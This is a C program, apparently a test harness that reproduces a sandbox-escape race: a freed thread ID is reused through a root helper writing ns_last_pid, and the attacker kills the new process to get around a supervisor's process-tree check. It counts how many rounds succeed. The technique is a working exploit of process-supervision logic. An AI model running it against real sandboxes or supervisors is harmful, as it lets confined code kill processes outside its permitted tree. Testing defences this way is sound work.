// Escape attempt by a thread id the kernel has freed: a thread that calls execve gives up
// its own id at once (the kernel moves it onto its leader's id), before a supervisor that
// learns of the exec later has dropped the id from its table. An outside helper (root:
// it writes /proc/sys/kernel/ns_last_pid) makes a process with that very id, and the
// attacker kills it, hoping to be judged as killing a thread of its own tree.
//
//   thread_id_reuse spawner REQ REPLY   the outside helper: serves requests on two FIFOs
//   thread_id_reuse attack REQ REPLY N  the attacker, N rounds; prints what it achieved
//
// Each round: fork a process whose second thread writes its id and execs this program
// ("exec'd FD": it says so on FD and exits), wait until /proc no longer shows that thread
// (the id is free; the exec'd program may still be stopped by a supervisor), ask the
// spawner for a process with the freed id ("spawn ID" -> "pid P"), kill(ID, SIGKILL) if it got it, then ask
// whether that process died of it ("judge" -> "hit" or "safe"). Natively most rounds are
// hits. The attacker prints `rounds=N reused=R hits=H refused=F` and exits 0 when every
// round ran.
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char self_path[4096];
static int tid_pipe[2], done_pipe[2];

static void* exec_thread(void* arg) {
  (void)arg;
  pid_t tid = (pid_t)syscall(SYS_gettid);
  if (write(tid_pipe[1], &tid, sizeof tid) != sizeof tid) _exit(3);
  char fd[16];
  snprintf(fd, sizeof fd, "%d", done_pipe[1]);
  execl(self_path, self_path, "exec'd", fd, (char*)NULL);
  _exit(4);
}

static int spawner(const char* req_path, const char* reply_path) {
  FILE* req = fopen(req_path, "r");
  FILE* reply = fopen(reply_path, "w");
  if (req == NULL || reply == NULL) return 2;
  char line[64];
  pid_t child = 0;
  while (fgets(line, sizeof line, req) != NULL) {
    int id = 0;
    if (sscanf(line, "spawn %d", &id) == 1) {
      FILE* last = fopen("/proc/sys/kernel/ns_last_pid", "w");
      if (last != NULL) {
        fprintf(last, "%d", id - 1);
        fclose(last);
      }
      child = fork();
      if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);  // never outlives a spawner that was stopped
        for (;;) pause();
      }
      fprintf(reply, "pid %d\n", child);
    } else if (strncmp(line, "judge", 5) == 0) {
      int status = 0;
      if (child > 0) {
        kill(child, SIGTERM);
        waitpid(child, &status, 0);
      }
      const int hit = child > 0 && WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
      fprintf(reply, "%s\n", hit ? "hit" : "safe");
      child = 0;
    }
    fflush(reply);
  }
  return 0;
}

static int ask(FILE* req, FILE* reply, const char* what, char* answer, size_t size) {
  fprintf(req, "%s\n", what);
  fflush(req);
  return fgets(answer, (int)size, reply) != NULL ? 0 : -1;
}

static int attack(const char* req_path, const char* reply_path, int rounds) {
  FILE* req = fopen(req_path, "w");
  FILE* reply = fopen(reply_path, "r");
  if (req == NULL || reply == NULL) return 2;
  int reused = 0, hits = 0, refused = 0;
  for (int i = 0; i < rounds; ++i) {
    if (pipe(tid_pipe) != 0 || pipe(done_pipe) != 0) return 2;
    pid_t proc = fork();
    if (proc == 0) {
      pthread_t t;
      if (pthread_create(&t, NULL, exec_thread, NULL) != 0) _exit(5);
      for (;;) pause();  // the exec ends this thread with the rest of the process
    }
    close(tid_pipe[1]);
    close(done_pipe[1]);
    pid_t tid = 0;
    if (read(tid_pipe[0], &tid, sizeof tid) != sizeof tid) return 2;
    close(tid_pipe[0]);
    // The id is free once the kernel has moved the thread onto its leader's id: strike then,
    // before a supervisor that stops the exec'd program has dropped it from its table.
    // (/proc/TID, not /proc/PID/task/TID: a dentry cached under the task directory may
    // outlive the id, as seen here when the process exits right after its exec.)
    char path[64];
    snprintf(path, sizeof path, "/proc/%d", tid);
    // Or until the exec'd program has run: once in a while the kernel keeps the id on the
    // exited process until its parent (here) reaps it; the spawner then cannot have it.
    struct pollfd done = {.fd = done_pipe[0], .events = POLLIN};
    while (access(path, F_OK) == 0 && poll(&done, 1, 0) == 0) usleep(10);
    char what[64], answer[64];
    snprintf(what, sizeof what, "spawn %d", tid);
    if (ask(req, reply, what, answer, sizeof answer) != 0) return 2;
    if (atoi(answer + 4) == tid) {
      ++reused;
      if (kill(tid, SIGKILL) != 0 && errno == EPERM) ++refused;
    }
    if (ask(req, reply, "judge", answer, sizeof answer) != 0) return 2;
    if (strncmp(answer, "hit", 3) == 0) ++hits;
    char byte = 0;
    if (read(done_pipe[0], &byte, 1) != 1) return 2;  // the exec'd program ran
    close(done_pipe[0]);
    waitpid(proc, NULL, 0);
  }
  printf("rounds=%d reused=%d hits=%d refused=%d\n", rounds, reused, hits, refused);
  return 0;
}

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "exec'd") == 0) {
    return write(atoi(argv[2]), "x", 1) == 1 ? 0 : 3;
  }
  ssize_t n = readlink("/proc/self/exe", self_path, sizeof self_path - 1);
  if (n <= 0) return 2;
  self_path[n] = '\0';
  if (argc == 4 && strcmp(argv[1], "spawner") == 0) return spawner(argv[2], argv[3]);
  if (argc == 5 && strcmp(argv[1], "attack") == 0) return attack(argv[2], argv[3], atoi(argv[4]));
  fprintf(stderr, "usage: %s spawner REQ REPLY | attack REQ REPLY ROUNDS\n", argv[0]);
  return 2;
}
